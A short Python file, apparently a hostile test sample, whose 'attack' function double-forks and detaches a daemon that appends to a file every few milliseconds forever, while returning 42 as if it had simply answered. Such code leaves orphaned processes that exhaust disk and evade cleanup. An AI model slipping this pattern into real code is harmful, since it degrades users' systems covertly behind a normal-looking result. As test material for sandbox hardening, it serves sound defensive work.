"""Answers, and leaves a daemon behind that writes for ever."""

import os
import time


def attack(path="heartbeat"):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                with open(path, "a") as file:
                    file.write(".")
                time.sleep(0.005)
        os._exit(0)
    os.wait()
    while not os.path.exists(path):
        time.sleep(0.001)
    return 42
